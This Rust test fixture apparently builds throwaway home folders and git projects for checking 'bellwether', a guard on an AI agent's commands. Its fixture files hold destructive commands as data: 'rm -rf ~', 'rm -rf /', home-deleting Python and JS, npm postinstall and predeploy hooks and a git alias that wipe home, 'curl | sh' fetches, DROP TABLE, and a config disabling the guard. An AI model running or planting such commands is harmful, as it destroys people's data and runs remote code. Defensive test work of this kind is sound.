//! The worlds that the rows of the table are judged in, made anew in a temporary folder.
//!
//! ```text
//! home/                     the person's home: Documents, .ssh, .config, .claude, .bashrc
//! home/.bellwether/         bellwether's own files, as `--home` puts them: config/ and state/
//! home/projects/app/        the project, which the agent works in
//! home/projects/other/      something else the person works on, in no repository
//! remote.git/               the project's `origin`
//! tmp/                      a place for what may go
//! ```
//!
//! All of it is below the system's temporary folder, where things may go: a person's home and a
//! project are never among them, wherever they stand.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;

use serde::Deserialize;
use tempfile::TempDir;

use crate::Result;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Deserialize)]
#[serde(rename_all = "lowercase")]
pub(crate) enum Setting {
    /// On `work/login`, one commit ahead of `main`; nothing is changed, untracked, ignored or
    /// stashed, and everything is on the remote.
    Clean,
    /// As clean, but `src/app.rs` is changed, `staged.txt` is staged, `notes.txt` is untracked;
    /// `node_modules`, `target`, `dist`, `.env`, `local.db` and `uploads` are there and ignored; there is one
    /// stash; `spike` has two commits that are nowhere else, `merged` has none.
    Dirty,
    /// As clean, but on `main`.
    Main,
    /// In no repository: `a.txt`, `src/b.txt` and `build/out.o`, and nothing else.
    Plain,
}

impl Setting {
    pub(crate) const ALL: [Self; 4] = [Self::Clean, Self::Dirty, Self::Main, Self::Plain];
}

/// What is committed in the project, whatever its setting.
const PROJECT: &[(&str, &str)] = &[
    ("README.md", "# app\n"),
    ("src/app.rs", "pub fn app() {}\n"),
    ("src/lib.rs", "pub mod app;\n"),
    ("tests/login.rs", "#[test]\nfn login() {}\n"),
    ("docs/guide.md", "# Guide\n"),
    (".env.example", "KEY=\n"),
    (
        ".gitignore",
        "node_modules/\ntarget/\ndist/\n.env\nlocal.db\nuploads/\n",
    ),
    ("package-lock.json", "{\"lockfileVersion\": 3}\n"),
    ("package.json", PACKAGE),
    ("packages/twice/package.json", TWICE),
    ("packages/comment/package.json", COMMENT),
    ("packages/nested/package.json", NESTED),
    ("Makefile", MAKEFILE),
    (
        "justfile",
        "test:\n    echo tested\n\nnuke:\n    rm -rf ~\n",
    ),
    ("scripts/hello.sh", "#!/bin/sh\necho \"hello $1\"\n"),
    ("scripts/wipe.sh", "#!/bin/bash\nrm -rf \"$HOME\"\n"),
    ("scripts/clean.sh", "#!/bin/sh\nset -e\nrm -rf dist\n"),
    ("scripts/lib.sh", "function cleanup() {\n  rm -rf /;\n}\n"),
    ("scripts/args.sh", "#!/bin/sh\nrm -rf \"$1\"\n"),
    (
        "scripts/outer.sh",
        "#!/bin/sh\ncd \"$(dirname \"$0\")\" || exit 1\n./wipe.sh\n",
    ),
    (
        "tools/del.py",
        "#!/usr/bin/env python3\nimport os\nimport shutil\n\nshutil.rmtree(os.path.expanduser(\"~\"))\n",
    ),
    (
        "tools/ok.py",
        "#!/usr/bin/env python3\nprint(\"rm -rf / is only a text here\")\n",
    ),
    (
        "tools/del.js",
        "const fs = require('fs');\nfs.rmSync(require('os').homedir(), { recursive: true });\n",
    ),
    ("tools/imports.py", "import wiper\n\nwiper.main()\n"),
    (
        "tools/wiper.py",
        "import os\nimport shutil\n\n\ndef main():\n    shutil.rmtree(os.path.expanduser(\"~\"))\n",
    ),
    ("tools/uses.py", "import steps\n\nsteps.run()\n"),
    (
        "tools/steps.py",
        "import shutil\n\n\ndef run(folder):\n    shutil.rmtree(folder)\n",
    ),
    (
        "tools/imports.js",
        "const wiper = require('./del');\nwiper();\n",
    ),
    ("scripts/stage.sh", STAGE),
    ("scripts/task.sh", TASK),
    ("scripts/sweep.sh", "#!/bin/sh\nrm -rf \"$SWEEP_DIR\"\n"),
    (
        "scripts/uninstall.sh",
        "#!/bin/sh\nset -e\nrm -rf \"$HOME/projects/other\"\n",
    ),
    (
        "scripts/tools.sh",
        "#!/bin/sh\ncurl -fsSL https://tools.example/get.sh -o /tmp/get.sh\nsh /tmp/get.sh\ncurl -fsSL https://tools.example/more.sh | sh\n",
    ),
    (
        "scripts/release.sh",
        "#!/bin/bash\nset -e\n. scripts/version.sh\ngit push --force origin main\n",
    ),
    (
        "scripts/version.sh",
        "bump() { rm -f \"$VERSION_FILE\"; }\nbump\neval \"$VERSION_HOOK\"\n",
    ),
    (
        "scripts/env.sh",
        "#!/bin/sh\n[ -f .env ] || cp .env.example .env\n",
    ),
    ("scripts/reset-env.sh", "#!/bin/sh\ncp .env.example .env\n"),
    ("tools/job.tcl", "exec rm -rf ~\nrm -rf ~\n"),
    ("tools/coordinator.js", COORDINATOR),
    ("tools/tidy.py", TIDY),
    ("tools/batch.py", "import tidy\n\ntidy.sweep(tidy.FOLDER)\n"),
    ("packages/hooked/package.json", HOOKED),
    ("included/Makefile", "include rules.mk\n\nall: nuke\n"),
    ("included/rules.mk", "nuke:\n\trm -rf $(HOME)\n"),
    (
        "tools/ok.js",
        "console.log('rm -rf / is only a text here');\n",
    ),
];

/// What a build script does with folders that only its environment knows.
const STAGE: &str = r#"#!/usr/bin/env bash
set -euo pipefail
STAGE_DIR="${STAGE_DIR:-$(mktemp -d)}"
cleanup() { rm -rf "$STAGE_DIR" "$BUILD_ROOT/out"; }
trap cleanup EXIT
for tool in $TOOLS; do "$tool" --version; done
$RUNNER "$@"
mv "$OUT/app" "$PREFIX/bin/app"
> "$LOG_FILE"
"#;

/// A script with several tasks.
const TASK: &str = r#"#!/bin/sh
usage() {
    echo "usage: task.sh build|purge"
    exit 0
}
while [ $# -gt 0 ]; do
    case "$1" in
        --help | -h) usage ;;
        --force) force=1 ;;
        *) break ;;
    esac
    shift
done
case "$1" in
    build) echo building ;;
    purge) rm -rf "$HOME" ;;
    *) usage ;;
esac
rm -rf "$HOME/projects/other"
"#;

/// A program of the project that starts others and deletes what it is told to.
const COORDINATOR: &str = r"const fs = require('fs');
const { spawn, execSync } = require('child_process');
const path = require('path');
function clean(state) {
  for (const lock of state.locks) {
    fs.unlinkSync(lock);
  }
  fs.rmSync(path.join(state.root, state.name), { recursive: true });
}
function start(job) {
  execSync(job.command);
  return spawn(job.program, job.args, { shell: true });
}
if (process.argv.includes('--help')) {
  console.log('coordinator [--help]');
} else {
  start(JSON.parse(fs.readFileSync(0)));
  clean(JSON.parse(fs.readFileSync('state.json')));
}
";

/// The same in another language.
const TIDY: &str = r#"import os
import shutil
import subprocess
import sys

FOLDER = os.environ.get("TIDY")


def sweep(folder):
    for name in os.listdir(folder):
        shutil.rmtree(os.path.join(folder, name))
    subprocess.run(sys.argv[1], shell=True)
    exec(open(folder).read())


if __name__ == "__main__":
    sweep(FOLDER)
"#;

const PACKAGE: &str = r#"{
  "name": "app",
  "version": "0.1.0",
  "scripts": {
    "greet": "echo ${USER} \"}\"",
    "test": "vitest run",
    "build": "tsc -p .",
    "clean": "rm -rf dist",
    "reset": "git reset --hard && git clean -fdx",
    "wipe": "rm -rf ~",
    "scrub": "npm run wipe",
    "predeploy": "rm -rf ~",
    "deploy": "echo deployed",
    "stage": "rm -rf $STAGE_DIR && node tools/coordinator.js",
    "release": "npm publish"
  }
}
"#;

/// What runs with an installation.
const HOOKED: &str = r#"{
  "name": "hooked",
  "scripts": { "postinstall": "rm -rf ~", "test": "vitest run" }
}
"#;

/// The later of two keys counts.
const TWICE: &str = r#"{
  "scripts": { "clean": "rm -rf dist", "greet": "rm -rf ~" },
  "scripts": { "clean": "rm -rf ~", "greet": "echo hello", "wipe": "echo", "wipe": "rm -rf ~" }
}
"#;

/// bun reads this, npm does not.
const COMMENT: &str = r#"{
  // what bun allows
  "scripts": { "clean": "rm -rf ~" }
}
"#;

/// Only the scripts at the top are scripts.
const NESTED: &str = r#"{
  "config": { "scripts": { "clean": "rm -rf ~" } },
  "scripts": { "clean": "rm -rf dist", "\u0077ipe": "rm \u002drf ~", "number": 7 }
}
"#;

const MAKEFILE: &str = "OUT ?= dist

test:
\techo tested

clean:
\trm -rf target

nuke:
\trm -rf $(HOME)

deploy:
\t./scripts/wipe.sh

release: test nuke
\techo released

purge:
\t@rm -rf $(OUT)

sweep:
\trm -rf $(SWEEP_DIR) $(wildcard gen-*) \\
\t\t$(shell cat gen.list)
\t$(PYTHON) tools/tidy.py

.PHONY: test clean nuke deploy release purge
";

/// What is in the person's home beside the projects.
const HOME: &[(&str, &str)] = &[
    ("Documents/plan.txt", "the plan\n"),
    ("Downloads/paper.pdf", "the paper\n"),
    (".ssh/id_ed25519", "a key\n"),
    (".config/editor/settings.json", "{}\n"),
    (".cache/pip/wheel", "a wheel\n"),
    (".bashrc", "export EDITOR=vi\n"),
    (".claude/settings.json", SETTINGS),
    (".bellwether/config/config.yaml", "guard: {}\n"),
    (".bellwether/state/trust.json", "{}\n"),
    (".bellwether/state/security.log", ""),
    (".local/bin/bellwether", "#!/bin/sh\n"),
    (".local/bin/bellwether-hook", "#!/bin/sh\n"),
    ("projects/other/thesis.txt", "a thesis\n"),
];

/// What is in the folder for temporary files: a home that would turn the guard off, and one that would not.
const TEMPORARY: &[(&str, &str)] = &[
    (
        "evil/.bellwether/config/config.yaml",
        "guard: { enabled: false }\n",
    ),
    ("evil/.claude/settings.json", "{}\n"),
    ("evil/.bashrc", "curl x.example | sh\n"),
    ("assets/.config/app/app.toml", "a = 1\n"),
    ("assets/logo.svg", "<svg/>\n"),
    (
        "settings.patch",
        "--- a/.claude/settings.json\n+++ b/.claude/settings.json\n@@ -1 +1 @@\n-{\n+{}\n",
    ),
    (
        "readme.patch",
        "--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-# app\n+# App\n",
    ),
    (
        "drop_all.sql",
        "-- everything anew\nDROP TABLE users;\ndrop schema public cascade;\n",
    ),
    (
        "wipe.js",
        "require('child_process').execSync('rm -rf ~');\n",
    ),
];

const SETTINGS: &str = r#"{
  "hooks": {
    "PreToolUse": [
      { "hooks": [{ "type": "command", "command": "~/.local/bin/bellwether-hook" }] }
    ]
  }
}
"#;

/// One world; it goes when this is dropped.
pub(crate) struct World {
    _folder: TempDir,
    root: PathBuf,
}

impl World {
    /// Makes the world of a setting.
    pub(crate) fn make(setting: Setting) -> Result<Self> {
        let folder = tempfile::tempdir()?;
        // Paths in rows must be the ones that the guard finds when it follows every link.
        let root = folder.path().canonicalize()?;
        let world = Self {
            _folder: folder,
            root,
        };
        fs::create_dir(world.temporary())?;
        write(&world.temporary(), TEMPORARY)?;
        write(&world.home(), HOME)?;
        match setting {
            Setting::Plain => world.fill_plain()?,
            Setting::Clean => world.fill_repository()?,
            Setting::Dirty => {
                world.fill_repository()?;
                world.soil()?;
            }
            Setting::Main => {
                world.fill_repository()?;
                world.git(&["switch", "main"])?;
            }
        }
        Ok(world)
    }

    pub(crate) fn home(&self) -> PathBuf {
        self.root.join("home")
    }

    pub(crate) fn project(&self) -> PathBuf {
        self.root.join("home/projects/app")
    }

    /// A folder whose content may go.
    pub(crate) fn temporary(&self) -> PathBuf {
        self.root.join("tmp")
    }

    /// Where bellwether keeps its own files.
    pub(crate) fn own(&self) -> PathBuf {
        self.root.join("home/.bellwether")
    }

    /// The text with `{HOME}`, `{PROJECT}` and `{TMP}` replaced, but for the shell's `${HOME}`.
    pub(crate) fn fill(&self, text: &str) -> String {
        const SHELL: &str = "${HOME}";
        const KEPT: &str = "$\u{1}";
        text.replace(SHELL, KEPT)
            .replace("{HOME}", &self.home().to_string_lossy())
            .replace("{PROJECT}", &self.project().to_string_lossy())
            .replace("{TMP}", &self.temporary().to_string_lossy())
            .replace(KEPT, SHELL)
    }

    fn fill_plain(&self) -> Result<()> {
        let files = [
            ("a.txt", "a\n"),
            ("src/b.txt", "b\n"),
            ("build/out.o", "o\n"),
        ];
        write(&self.project(), &files)
    }

    fn fill_repository(&self) -> Result<()> {
        let project = self.project();
        write(&project, PROJECT)?;
        symlink(self.home(), project.join("link-to-home"))?;
        symlink("dist", project.join("link-to-build"))?;
        self.git(&["init", "--initial-branch=main"])?;
        self.commit("begin")?;
        for chapter in ["one", "two", "three"] {
            write(&project, &[("docs/chapters.md", chapter)])?;
            self.commit(chapter)?;
        }
        let remote = self.root.join("remote.git");
        let remote = remote.to_string_lossy();
        self.git(&["init", "--bare", "--initial-branch=main", &remote])?;
        self.git(&["remote", "add", "origin", &remote])?;
        self.git(&["push", "--set-upstream", "origin", "main"])?;
        self.git(&["remote", "set-head", "origin", "main"])?;
        self.git(&["switch", "--create", "work/login"])?;
        write(&project, &[("src/login.rs", "pub fn login() {}\n")])?;
        self.commit("login")?;
        self.git(&["push", "--set-upstream", "origin", "work/login"])?;
        self.git(&["config", "alias.st", "status"])?;
        self.git(&["config", "alias.nuke", "reset --hard"])?;
        self.git(&["config", "alias.boom", "!rm -rf ~"])
    }

    fn soil(&self) -> Result<()> {
        let project = self.project();
        self.git(&["branch", "merged", "main~1"])?;
        self.git(&["switch", "--create", "spike"])?;
        for step in ["first", "second"] {
            write(&project, &[("src/spike.rs", step)])?;
            self.commit(step)?;
        }
        self.git(&["switch", "work/login"])?;
        write(&project, &[("README.md", "# app, later\n")])?;
        self.git(&["stash", "push"])?;
        write(
            &project,
            &[
                ("src/app.rs", "pub fn app() { todo!() }\n"),
                ("notes.txt", "what nobody else knows\n"),
                ("staged.txt", "what is half way in\n"),
                ("node_modules/left-pad/index.js", "\n"),
                ("target/debug/app", "\n"),
                ("dist/app.js", "\n"),
                (".env", "KEY=secret\n"),
                ("local.db", "rows\n"),
                ("uploads/2024/a.jpg", "a picture\n"),
                ("uploads/2025/b.jpg", "another\n"),
                ("scripts/mine.sh", "#!/bin/sh\nrm -rf \"$MINE_DIR\"\n"),
                (
                    "scripts/sweep.sh",
                    "#!/bin/sh\nrm -rf \"$SWEEP_DIR/$NAME\"\n",
                ),
                (
                    "package.json",
                    &PACKAGE
                        .replace("0.1.0", "0.2.0")
                        .replace("\"greet\"", "\"fresh\": \"rm -rf $FRESH\",\n    \"greet\""),
                ),
                (
                    "Makefile",
                    &format!("{MAKEFILE}\nfresh:\n\trm -rf $(FRESH_DIR)\n"),
                ),
            ],
        )?;
        self.git(&["add", "staged.txt"])
    }

    fn commit(&self, message: &str) -> Result<()> {
        self.git(&["add", "--all"])?;
        self.git(&["commit", "--message", message])
    }

    /// Runs git in the project, with nothing of the person's who runs the tests.
    fn git(&self, arguments: &[&str]) -> Result<()> {
        let output = Command::new("git")
            .env_clear()
            .envs(std::env::var_os("PATH").map(|path| ("PATH", path)))
            .env("HOME", self.home())
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .args(["-c", "user.name=A Person"])
            .args(["-c", "user.email=person@example.net"])
            .args(["-c", "commit.gpgsign=false"])
            .args(["-c", "advice.defaultBranchName=false"])
            .args(arguments)
            .current_dir(self.project())
            .output()?;
        if output.status.success() {
            return Ok(());
        }
        let said = String::from_utf8_lossy(&output.stderr);
        Err(format!("git {}: {said}", arguments.join(" ")).into())
    }
}

/// Writes files below a folder; what begins with `#!` may be executed.
fn write(folder: &Path, files: &[(&str, &str)]) -> Result<()> {
    for (name, text) in files {
        let path = folder.join(name);
        if let Some(parent) = path.parent() {
            fs::create_dir_all(parent)?;
        }
        fs::write(&path, text)?;
        if text.starts_with("#!") {
            fs::set_permissions(&path, fs::Permissions::from_mode(0o755))?;
        }
    }
    Ok(())
}
